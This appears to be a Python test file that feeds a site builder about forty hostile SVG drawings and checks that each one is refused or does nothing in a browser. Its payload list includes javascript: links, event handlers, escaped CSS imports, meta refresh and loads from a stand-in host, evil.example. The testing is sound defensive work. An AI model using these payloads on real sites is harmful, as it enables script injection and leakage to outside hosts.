"""Drawings of a stranger: refused, or harmless in a browser that has no policy to save it."""

from pathlib import Path

from hostile_run import problems_of
from journeys.test_hostile_pages import open_all
from journeys.visits import Browsing
from samples import GUIDE, changed, write_content

AWAY = "https://evil.example/"

ATTACKS = {
    "link": '<a href="javascript:evil()"><rect width="99" height="99"/></a>',
    "old link": '<a xlink:href="javascript:evil()"><rect width="99" height="99"/></a>',
    "split scheme": '<a href="java&#10;script:evil()"><rect width="99" height="99"/></a>',
    "link that is set": '<a><set attributeName="href" to="javascript:evil()"/><rect width="99" height="99"/></a>',
    "link that moves": '<a><animate attributeName="href" values="javascript:evil();javascript:evil()"/>'
    '<rect width="99" height="99"/></a>',
    "handler that is set": '<rect width="99" height="99"><set attributeName="onmouseover" to="evil()"/></rect>',
    "handler in capitals": '<rect ONLOAD="evil()" onload="evil()" width="99" height="99"/>',
    "begin": '<rect width="99" height="99"><animate onbegin="evil()" attributeName="x" dur="1s"/></rect>',
    "script": "<script>evil()</script>",
    "script elsewhere": f'<script href="{AWAY}a.js"/>',
    "script of pages": '<h:script xmlns:h="http://www.w3.org/1999/xhtml">evil()</h:script>',
    "picture of pages": '<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="evil()"/>',
    "picture elsewhere": f'<h:img xmlns:h="http://www.w3.org/1999/xhtml" src="{AWAY}a.png"/>',
    "pictures elsewhere": f'<h:img xmlns:h="http://www.w3.org/1999/xhtml" srcset="{AWAY}a.png 1x"/>',
    "poster": f'<h:video xmlns:h="http://www.w3.org/1999/xhtml" poster="{AWAY}a.png"/>',
    "style of pages": f'<h:link xmlns:h="http://www.w3.org/1999/xhtml" rel="stylesheet" href="{AWAY}a.css"/>',
    "other page": f'<h:meta xmlns:h="http://www.w3.org/1999/xhtml" http-equiv="refresh" content="0;url={AWAY}"/>',
    "frame": f'<h:iframe xmlns:h="http://www.w3.org/1999/xhtml" srcdoc="{AWAY}" src="{AWAY}"/>',
    "object": f'<h:object xmlns:h="http://www.w3.org/1999/xhtml" data="{AWAY}a.svg"/>',
    "base": f'<h:base xmlns:h="http://www.w3.org/1999/xhtml" href="{AWAY}"/><use href="#a"/>',
    "form": f'<h:form xmlns:h="http://www.w3.org/1999/xhtml" action="{AWAY}"><h:button autofocus="" onfocus="evil()"/></h:form>',
    "image": f'<image href="{AWAY}a.png" width="9" height="9"/>',
    "filter": f'<filter id="f"><feImage href="{AWAY}a.png"/></filter><rect filter="url(#f)" width="9" height="9"/>',
    "filter elsewhere": f'<rect filter="url({AWAY}a.svg#f)" width="9" height="9"/>',
    "fill": f'<rect style="fill: url(&quot;{AWAY}a.svg#f&quot;)" width="9" height="9"/>',
    "fill that is set": f'<rect width="9" height="9"><set attributeName="fill" to="url({AWAY}a.svg#f)"/></rect>',
    "fill that moves": f'<rect width="9" height="9"><animate attributeName="fill" values="url({AWAY}a.svg#f)" dur="1s"/></rect>',
    "marker": f'<path marker-start="url({AWAY}a.svg#m)" d="M0 0H9"/>',
    "use": f'<use href="{AWAY}a.svg#u"/>',
    "use of data": '<use href="data:image/svg+xml,&lt;svg id=&quot;a&quot;&gt;&lt;/svg&gt;#a"/>',
    "use that is set": f'<use><set attributeName="href" to="{AWAY}a.svg#u"/></use>',
    "import": f"<style>@import '{AWAY}a.css';</style>",
    "escaped import": f"<style>@\\69mport '{AWAY}a.css';</style>",
    "escaped address": f"<style>rect {{ fill: \\75rl({AWAY}a.svg#f) }}</style>",
    "font": f"<style>@font-face {{ font-family: a; src: url({AWAY}f.woff2) }} text {{ font-family: a }}</style><text>a</text>",
    "image set": f'<style>svg {{ background: image-set("{AWAY}a.png" 1x) }}</style>',
    "cursor": f'<rect cursor="url({AWAY}a.cur), auto" width="99" height="99"/>',
    "base of names": f'<g xml:base="{AWAY}"><use href="#u"/></g>',
    "script in others": '<x:a xmlns:x="urn:x"><script>evil()</script></x:a>',
    "handler in others": '<x:a xmlns:x="urn:x"><rect onload="evil()" width="9" height="9"/></x:a>',
    "style in others": f"<x:a xmlns:x='urn:x'><style>@import '{AWAY}a.css';</style></x:a>",
    "listener": '<e:listener xmlns:e="http://www.w3.org/2001/xml-events" event="click" handler="#s"/>',
    "formula": '<m:maction xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:evil()"/>',
    "words": "<text>&lt;script&gt;evil()&lt;/script&gt;</text><title>&lt;img src=x onerror=evil()&gt;</title>",
}
"""Ways out of an SVG: to a script or to another host. From memory, after the lists of W3C, SVG
Integration, and of OWASP."""

PROLOGUES = {
    "style sheet": f'<?xml-stylesheet href="{AWAY}a.css"?>',
    "transformation": f'<?xml-stylesheet type="text/xsl" href="{AWAY}a.xsl"?>',
}


def svg(inner: str, prologue: str = "") -> str:
    """A drawing of 99 × 99 mm with something in it."""
    return (
        f'{prologue}<svg xmlns="http://www.w3.org/2000/svg" width="99mm" height="99mm" '
        'xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 99 99">'
        f'<rect width="50" height="50"/>{inner}</svg>'
    )


DRAWINGS = {name: svg(inner) for name, inner in ATTACKS.items()} | {
    name: svg("", prologue) for name, prologue in PROLOGUES.items()
}


def test_a_drawing_is_refused_or_harmless(browsing: Browsing, tmp_path: Path) -> None:
    """Each way out of an SVG is refused; what is let through is opened by itself, and does nothing."""
    let_through: dict[str, bytes] = {}
    for number, (name, drawing) in enumerate(DRAWINGS.items()):
        picture = "title: Test cuff\npicture: {file: a.svg, alt: A}"
        folder = tmp_path / str(number)
        write_content(folder, guide=changed(GUIDE, "title: Test cuff", picture))
        (folder / "cuff" / "a.svg").write_text(drawing, encoding="utf-8")
        if not problems_of(folder):
            let_through[f"{name}.svg".replace(" ", "-")] = drawing.encode()
    print(f"let through: {', '.join(let_through)}")
    assert "words.svg" in let_through and len(let_through) < len(DRAWINGS) / 2
    with browsing.visit(820, trusting=True) as visit:
        assert open_all(visit, let_through, let_through.get) == []
